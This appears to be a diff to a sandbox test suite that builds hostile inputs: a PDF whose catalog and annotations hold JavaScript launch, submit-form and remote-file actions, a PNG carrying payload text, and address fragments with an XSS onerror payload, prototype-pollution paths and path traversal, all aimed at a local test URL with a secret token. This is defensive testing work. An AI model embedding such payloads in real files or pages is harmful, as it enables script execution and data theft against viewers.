@@ -7,7 +7,13 @@ stand those of names and texts in files, pictures, addresses, and other pages.
 
 from __future__ import annotations
 
+import io
 import json
+from collections.abc import Iterable
+
+from PIL import Image, PngImagePlugin
+
+from tests import containers
 
 WAYS = {
     # requests to another computer
@@ -88,6 +94,23 @@ WAYS = {
     "an end without a word, dug up": "js.DedicatedWorkerGlobalScope.prototype.close.call(js.self)",
 }
 
+# Those whose end is the browser's doing: its policy, its origins, what its workers have. The stage
+# `long` tries them all in each browser.
+DIFFERENT = [
+    "fetch without permission",
+    "fetch of the prototype",
+    "XMLHttpRequest",
+    "WebSocket",
+    "a font",
+    "the site's worker",
+    "a worker from data",
+    "import in JavaScript",
+    "other projects, dug up",
+    "the site's copy",
+    "the file system",
+    "other tabs",
+]
+
 SECRET = "geheim"
 
 _TRY_ALL = """\
@@ -105,12 +128,11 @@ print("TOLD", json.dumps(told))
 """
 
 
-def attempt(site: str, url: str) -> str:
-    """A cell that tries them all."""
+def attempt(site: str, url: str, names: Iterable[str] = WAYS) -> str:
+    """A cell that tries the ways of these names."""
     port = int(url.rsplit(":", 1)[1].strip("/"))
-    return _TRY_ALL.format(
-        ways=json.dumps(WAYS), site=site, url=url + SECRET, secret=SECRET, port=port
-    )
+    ways = json.dumps({name: WAYS[name] for name in names})
+    return _TRY_ALL.format(ways=ways, site=site, url=url + SECRET, secret=SECRET, port=port)
 
 
 def notebook(source: str) -> bytes:
@@ -171,6 +193,65 @@ def picture(url: str) -> bytes:
       height="30"/></svg>""".encode()
 
 
+# What a PDF may ask a viewer to do: by its catalog, and by the notes on its page.
+PDF_CATALOG = {
+    "a script when it opens": "/OpenAction << /S /JavaScript /JS (app.launchURL('URL'); DEED) >>",
+    "a script at its end": "/AA << /WC << /S /JavaScript /JS (this.submitForm('URL')) >> >>",
+    "a base for its links": "/URI << /Base (URL) >>",
+    "a form in XML": "/AcroForm << /Fields [] /XFA (<script>DEED</script>) >>",
+    "scripts and files with names": "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS"
+    " (DEED) >>] >> /EmbeddedFiles << /Names [(b.html) << /Type /Filespec /FS /URL /F (URL) >>] >>"
+    " >>",
+}
+PDF_NOTES = {
+    "a link": "/Link /A << /S /URI /URI (URL) >>",
+    "a link that is a script": "/Link /A << /S /URI /URI (javascript:DEED) >>",
+    "a link to a program": "/Link /A << /S /Launch /F (URL) >>",
+    "another PDF": "/Link /A << /S /GoToR /D [0 /Fit] /F << /FS /URL /F (URL) >> >>",
+    "a script when it is seen": "/Widget /FT /Btn /AA << /PV << /S /JavaScript /JS (DEED) >> >>",
+    "a form that is sent": "/Widget /FT /Btn /A << /S /SubmitForm /F << /FS /URL /F (URL) >> >>",
+    "data for a form": "/Widget /FT /Btn /A << /S /ImportData /F (URL) >>",
+    "a file": "/FileAttachment /FS << /Type /Filespec /FS /URL /F (URL) >>",
+    "a film": "/Screen /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /CT (video/mp4) /D"
+    " << /Type /Filespec /FS /URL /F (URL) >> >> >> >>",
+    "markup": "/FreeText /RC (<body><img src='URL' onerror='DEED'></body>) /DA (/F 9 Tf)",
+}
+
+
+def pdf(url: str, page: Image.Image) -> bytes:
+    """A page of paper that asks for all that, and whose second picture lies elsewhere."""
+
+    def filled(text: str) -> str:
+        return text.replace("URL", url + SECRET).replace("DEED", DEED)
+
+    file = containers.Pdf()
+    notes = [
+        file.add(f"<< /Type /Annot /F 4 /Rect [0 0 420 594] /Subtype {filled(note)} >>")
+        for note in PDF_NOTES.values()
+    ]
+    catalog = " ".join(map(filled, PDF_CATALOG.values()))
+    file.objects[0] = (f"<< /Type /Catalog /Pages 2 0 R {catalog} >>", None)
+    scan = containers.jpeg(page)
+    entries = f"{containers.GREY} /Filter /DCTDecode"
+    pictures = [file.picture(page.size, entries, scan)]
+    entries = filled("/ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (URL) >>")
+    pictures.append(file.picture((9, 9), entries, b""))
+    annotated = f"/Annots [{' '.join(f'{note} 0 R' for note in notes)}]"
+    file.page(f"q {containers.WHOLE} /I0 Do Q q 1 0 0 1 0 0 cm /I1 Do Q", pictures, annotated)
+    return file.written()
+
+
+def png(url: str) -> bytes:
+    """A picture that carries all texts, as its comments, its author, and where it was taken."""
+    told = PngImagePlugin.PngInfo()
+    for name, text in zip(TEXTS, texts(url), strict=True):
+        told.add_text(name, text)
+        told.add_itxt("XML:com.adobe.xmp", text)
+    file = io.BytesIO()
+    Image.new("L", (60, 60), 255).save(file, "PNG", pnginfo=told)
+    return file.getvalue()
+
+
 # Behind the site's own address.
 ADDRESSES = {
     "markup": f"#learn/<img src=x onerror={DEED}>",
@@ -178,6 +259,7 @@ ADDRESSES = {
     "what objects have": "#__proto__",
     "what objects have, in a step": "#learn/constructor",
     "what objects have, deeper": "#learn/__proto__/toString",
+    "what objects have, and a place in it": "#learn/__proto__/x",
     "what cannot be decoded": "#code/%E0%A4%A",
     "a path": "#learn/../../..//",
     "very much": "#learn/" + "a" * 100_000,
